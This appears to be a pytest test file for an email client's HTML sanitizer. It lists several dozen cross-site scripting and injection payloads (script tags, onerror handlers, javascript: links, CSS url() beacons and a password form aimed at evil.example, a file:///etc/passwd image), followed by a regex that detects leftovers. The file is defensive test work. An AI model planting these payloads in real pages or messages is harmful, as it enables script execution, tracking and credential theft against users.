"""HTML of strangers: nothing in it runs, loads unasked or leaves its frame."""

import re

import pytest

from app.mail.parsing.sanitizing import sanitized

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="background-color:red;background-image:url(//evil.example)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="color:red;position:fixed;top:0;left:0;z-index:999">x</p>',
    '<p style="background:u\\72l(https://evil.example/x)">x</p>',
    '<p style="list-style:url(https://evil.example/x)">x</p>',
    '<div style="content:attr(x)">x</div>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=p type=password><button>go</button></form>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='cid:x'>x</a>",
    "<a href='/admin/delete'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='mailto:x@y'>",
    "<img src='file:///etc/passwd'>",
    "<img srcset='https://evil.example/x 2x'>",
    "<video src=https://evil.example/x autoplay><source src=y></video><audio src=z></audio>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>",
    "<body background=https://evil.example/x onload=alert(1)>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--[if gte mso 9]><xml><o:x onload=alert(1)/></xml><![endif]-->",
    "<![if !mso]><img src=x onerror=alert(1)><![endif]>",
    "<p id=sign-in class=button name=x>x</p>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<p title='<script>alert(1)</script>'>x</p>",
    "<a href='https://a.example' target=_top ping=https://evil.example>x</a>",
    "<x-y onclick=alert(1)>x</x-y>",
    "<p\0onclick=alert(1)>x</p>",
]
_HARMFUL = re.compile(
    r"<(?:script|style|svg|math|iframe|object|embed|link|meta|base|form|input|button|video|audio|source"
    r"|template|noscript|textarea|body|x-y)\b|<[^>]*\s(?:on\w+|srcset|background|id|class|name|target|ping|srcdoc)\s*="
    r"|<[^>]*(?:javascript|vbscript|data|file):|url\s*\(|expression|position|attr\(|\\72|<!"
    r'|(?:href|src)="(?!https?://|mailto:|tel:|cid:)|<a[^>]*cid:|<img[^>]*mailto:',
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_harmful_is_left(attack: str) -> None:
    clean = sanitized(f"<p>before</p>{attack}<p>after</p>")
    without_titles = re.sub(r'title="[^"]*"', "", clean)
    assert not _HARMFUL.search(without_titles), clean
    assert "before" in clean


def test_what_a_letter_needs_stays() -> None:
    letter = (
        '<h1>Hello</h1><p style="color:#ff0000;text-align:center">red <b>bold</b></p>'
        '<ul><li>one</li></ul><table width="10"><tr><td colspan="2">cell</td></tr></table>'
        '<img src="cid:p1@x" alt="p"><img src="https://a.example/p.png" width="3">'
    )
    clean = sanitized(letter)
    for kept in ("<h1>", "color:#ff0000", "text-align:center", "<b>", "<li>", 'colspan="2"'):
        assert kept in clean
    assert 'src="cid:p1@x"' in clean
    assert 'src="https://a.example/p.png"' in clean


def test_links_lead_out_without_a_word_about_us() -> None:
    clean = sanitized('<a href="https://a.example/x">x</a> <a href="mailto:a@b.example">y</a>')
    assert 'href="https://a.example/x"' in clean
    assert 'href="mailto:a@b.example"' in clean
    assert clean.count('rel="nofollow noopener noreferrer"') == 2


def test_html_nested_too_deep_is_shown_as_text() -> None:
    assert sanitized("<div>" * 5_000 + "a &lt; b") == "<pre>a &lt; b</pre>"
